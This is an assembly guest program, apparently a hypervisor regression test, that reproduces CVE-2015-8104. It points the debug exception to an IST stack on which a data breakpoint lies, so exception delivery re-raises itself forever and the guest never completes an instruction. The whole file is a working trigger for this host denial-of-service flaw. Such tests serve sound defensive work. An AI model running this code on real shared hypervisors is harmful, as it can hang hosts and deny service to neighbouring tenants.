; An exception whose delivery raises the same exception, for ever: no instruction completes, so that
; no interrupt can end the guest by itself (CVE-2015-8104). A data breakpoint lies on the stack that
; the breakpoint's own handler gets.
%include "start.inc"

IST_TOP         equ 0x900000
TSS             equ 0x901000
TSS_IST1        equ 0x24
TSS_LIMIT       equ 0x67
TSS_AVAILABLE   equ 0x0000890000000000
SELECTOR_TSS    equ 0x28            ; over the GDT's last descriptors, which are not needed here
GATE_IST        equ 4               ; offset in a gate
VECTOR_DB       equ 1
DR7_WRITE_0     equ 0x400 | 3 | (0xd << 16) ; breakpoint 0, 4 bytes, writes

main:
    print_line "READY"
    call interrupts_on
    mov ecx, 2000000                ; the neighbour gets going
.wait:
    loop .wait
    mov rdi, TSS
    mov ecx, TSS_LIMIT + 1
    xor eax, eax
    rep stosb
    mov qword [TSS + TSS_IST1], IST_TOP
    mov rax, TSS_AVAILABLE | TSS_LIMIT | ((TSS & 0xffffff) << 16)
    mov [gdt + SELECTOR_TSS], rax
    mov qword [gdt + SELECTOR_TSS + 8], 0
    mov ax, SELECTOR_TSS
    ltr ax
    mov byte [idt + VECTOR_DB * 16 + GATE_IST], 1
    mov rax, IST_TOP - 8
    mov dr0, rax
    mov eax, DR7_WRITE_0
    mov dr7, rax
    mov dword [IST_TOP - 8], 5
    nop
    print_line "AFTER"
    jmp power_off
%include "end.inc"
